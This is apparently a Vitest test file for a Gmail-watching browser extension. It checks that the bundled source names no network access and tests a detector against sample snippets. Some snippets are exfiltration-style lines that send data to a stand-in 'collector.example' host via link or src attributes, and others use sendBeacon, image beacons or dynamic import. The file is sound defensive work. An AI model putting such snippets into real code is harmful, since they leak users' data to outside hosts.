import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { reachesIn } from '../structure/network';

/** Addresses that stand in the source and are asked for nothing, with the reason why each is there. */
const HARMLESS: Readonly<Record<string, string>> = {
  'https://mail.google.com/*': 'the match pattern of a page that is watched',
  'https://': 'the beginning of a match pattern that a person makes in set-up',
};

const scripts = ['src', 'entrypoints'].flatMap((folder) =>
  readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && /\.tsx?$/.test(entry.name))
    .map((entry) => join(entry.parentPath, entry.name))
    // Tests and tables of cases are in no bundle.
    .filter((path) => !/\.test\.tsx?$|\/cases\.ts$|\/testing\/|\/vectors\//.test(path)),
);

describe('the source', () => {
  it('was read', () => {
    expect(scripts.length).toBeGreaterThan(150);
    expect(scripts).toContain(join('entrypoints', 'background.ts'));
  });

  it('names no way to the network', () => {
    const reaches = scripts.flatMap((path) => reachesIn(path, readFileSync(path, 'utf8')));
    expect(reaches.filter(({ what }) => !Object.hasOwn(HARMLESS, what))).toEqual([]);
    expect(new Set(reaches.map(({ what }) => what)), 'no reason is kept that nothing needs').toEqual(
      new Set(Object.keys(HARMLESS)),
    );
  });
});

describe('what is looked for', () => {
  it.each([
    ["void fetch('/x')", 'fetch'],
    ["globalThis['fetch']('/x')", 'fetch'],
    ['const { fetch: ask } = self', 'fetch'],
    ['new XMLHttpRequest()', 'XMLHttpRequest'],
    ["navigator.sendBeacon('/x')", 'sendBeacon'],
    ['new Image().src = address', 'Image'],
    ["importScripts('/x.js')", 'importScripts'],
    ['new RTCPeerConnection()', 'RTCPeerConnection'],
    ["link.href = 'https://collector.example/' + name", 'https://collector.example/'],
    ["element.setAttribute('src', 'https://collector.example')", 'https://collector.example'],
    ["window.open('/x')", 'window.open'],
    ['location.href = address', 'location.href ='],
    ['await import(address)', 'import()'],
  ])('finds %s', (text, what) => {
    expect(reachesIn('planted.ts', text).map((reach) => reach.what)).toContain(what);
  });

  it.each([
    '// It would fetch https://collector.example',
    'const fetched = prefetch(indexedDB.open(name))',
    "await import('./import-file')",
    'const part = location.hash',
  ])('leaves %s alone', (text) => {
    expect(reachesIn('harmless.ts', text)).toEqual([]);
  });
});
